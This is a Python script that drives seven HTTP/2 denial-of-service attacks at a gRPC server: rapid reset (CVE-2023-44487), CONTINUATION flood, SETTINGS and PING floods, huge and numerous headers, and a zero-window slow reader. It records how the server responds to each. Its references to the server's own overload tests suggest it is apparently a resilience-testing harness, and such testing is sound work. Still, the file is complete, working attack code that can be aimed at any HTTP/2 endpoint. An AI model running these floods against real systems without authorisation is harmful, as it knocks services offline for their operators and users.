#!/usr/bin/env python3
"""HTTP/2 attacks of recent years, driven at a gRPC server over cleartext
HTTP/2 with Python's h2 stack (hyperframe for frames, hpack for header
blocks), so that each frame is exactly what the attack needs.

    http2_attacks.py ATTACK HOST:PORT [--path PATH] [--message HEX]

Runs one attack on one connection, then reads what the server sends until
it closes the connection or stays silent for --patience seconds, and prints
one JSON line: how many frames of the attack were sent, whether the server
closed the connection, the error code of its GOAWAY (if it sent one), and
how many bytes it sent back.

Attacks:
  rapid-reset         open streams and cancel each at once (CVE-2023-44487)
  continuation-flood  one header block in endless CONTINUATION frames
                      (CVE-2024-27316 and its kin)
  settings-flood      SETTINGS frames without reading their ACKs
  ping-flood          PING frames without reading their ACKs
  huge-headers        one header block larger than the server allows
  many-headers        thousands of small headers in one request
  zero-window         a client that never opens its receive window, asking
                      for responses it will not read
"""

import argparse
import json
import socket
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


def request_headers(host, path, extra=()):
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", host),
        (":path", path),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *extra,
    ]


class Attack:
    def __init__(self, addr, path, message, settings=None):
        host, port = addr.rsplit(":", 1)
        self.authority = addr
        self.path = path
        self.message = message
        self.sock = socket.create_connection((host, int(port)), timeout=30)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = hpack.Encoder()
        self.sent = 0
        self.closed_while_sending = False
        first = SettingsFrame(0)
        for key, value in (settings or {}).items():
            first.settings[key] = value
        self.send(PREFACE + first.serialize(), count=False)

    def send(self, data, count=True):
        try:
            self.sock.sendall(data)
        except OSError:
            self.closed_while_sending = True
            return False
        if count:
            self.sent += 1
        return True

    def headers(self, stream, path, end_stream=False, extra=()):
        block = self.encoder.encode(request_headers(self.authority, path, extra))
        frame = HeadersFrame(stream)
        frame.data = block
        frame.flags.add("END_HEADERS")
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame.serialize()

    def grpc_message(self, stream, message=b""):
        frame = DataFrame(stream)
        frame.data = b"\x00" + len(message).to_bytes(4, "big") + message
        frame.flags.add("END_STREAM")
        return frame.serialize()

    def outcome(self, patience):
        """Reads until the server closes or is silent for `patience` s."""
        self.sock.settimeout(patience)
        buffer = b""
        received = 0
        goaway = None
        closed = self.closed_while_sending
        while not closed:
            try:
                chunk = self.sock.recv(1 << 16)
            except socket.timeout:
                break
            except OSError:
                closed = True
                break
            if not chunk:
                closed = True
                break
            received += len(chunk)
            buffer += chunk
            while len(buffer) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
                if len(buffer) < 9 + length:
                    break
                if isinstance(frame, GoAwayFrame):
                    frame.parse_body(memoryview(buffer[9 : 9 + length]))
                    goaway = frame.error_code
                buffer = buffer[9 + length :]
        return {
            "sent": self.sent,
            "closed": closed,
            "goaway": goaway,
            "received": received,
        }


def rapid_reset(a, n):
    batch = []
    for i in range(n):
        stream = 2 * i + 1
        batch.append(a.headers(stream, a.path))
        rst = RstStreamFrame(stream)
        rst.error_code = CANCEL
        batch.append(rst.serialize())
        if len(batch) >= 200:
            if not a.send(b"".join(batch)):
                return
            a.sent += len(batch) // 2 - 1
            batch = []
    if batch:
        a.send(b"".join(batch))


def continuation_flood(a, n):
    frame = HeadersFrame(1)
    frame.data = a.encoder.encode(
        request_headers(a.authority, a.path)
    )
    if not a.send(frame.serialize()):
        return
    # Each CONTINUATION carries one more literal header, never indexed, so
    # the block only grows; END_HEADERS never comes.
    filler = hpack.Encoder()
    for i in range(n):
        cont = ContinuationFrame(1)
        cont.data = filler.encode([(f"x-flood-{i}", "a" * 4000)], huffman=False)
        if not a.send(cont.serialize()):
            return


def settings_flood(a, n):
    batch = [SettingsFrame(0).serialize()] * 1000
    for _ in range(n // 1000):
        if not a.send(b"".join(batch)):
            return
        a.sent += 999


def ping_flood(a, n):
    batch = b"".join(PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize() for i in range(1000))
    for _ in range(n // 1000):
        if not a.send(batch):
            return
        a.sent += 999


def one_request_with(a, extra, huffman=True):
    """Sends one request whose header block carries `extra` headers, split
    over CONTINUATION frames of 16 KiB, then its (empty) message."""
    block = a.encoder.encode(request_headers(a.authority, a.path, extra), huffman=huffman)
    chunks = [block[i : i + 16384] for i in range(0, len(block), 16384)]
    first = HeadersFrame(1)
    first.data = chunks[0]
    frames = [first]
    for chunk in chunks[1:]:
        cont = ContinuationFrame(1)
        cont.data = chunk
        frames.append(cont)
    frames[-1].flags.add("END_HEADERS")
    for f in frames:
        if not a.send(f.serialize()):
            return
    a.send(a.grpc_message(1))


def huge_headers(a, n):
    # One header of n bytes.
    one_request_with(a, [("x-huge", "h" * n)], huffman=False)


def many_headers(a, n):
    one_request_with(a, [(f"x-many-{i}", "v") for i in range(n)])


def zero_window(a, n):
    # SETTINGS_INITIAL_WINDOW_SIZE = 0 was sent with the preface; ask for
    # n listings (each answer waits for window that never comes).
    for i in range(n):
        stream = 2 * i + 1
        if not a.send(a.headers(stream, a.path)):
            return
        if not a.send(a.grpc_message(stream, a.message), count=False):
            return


ATTACKS = {
    "rapid-reset": (rapid_reset, 20000, None),
    "continuation-flood": (continuation_flood, 20000, None),
    "settings-flood": (settings_flood, 200000, None),
    "ping-flood": (ping_flood, 500000, None),
    "huge-headers": (huge_headers, 1 << 20, None),
    "many-headers": (many_headers, 10000, None),
    # Fewer calls than the servers' --max-concurrent-calls (256): what is
    # tried is the slow reader, not load shedding (tests/overload.rs).
    "zero-window": (zero_window, 100, {SettingsFrame.INITIAL_WINDOW_SIZE: 0}),
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("addr")
    parser.add_argument("--count", type=int, help="frames (or bytes, for huge-headers)")
    parser.add_argument("--patience", type=float, default=20.0)
    parser.add_argument(
        "--path",
        default="/zgc.registry.v1.RegistryService/ListParks",
        help="the gRPC method the attack's requests name",
    )
    parser.add_argument(
        "--message",
        default="08e807",
        help="the request message, hex (default: ListParksRequest{page_size: 1000})",
    )
    args = parser.parse_args()
    run, count, settings = ATTACKS[args.attack]
    a = Attack(args.addr, args.path, bytes.fromhex(args.message), settings)
    run(a, args.count or count)
    result = a.outcome(args.patience)
    result["attack"] = args.attack
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    sys.exit(main())
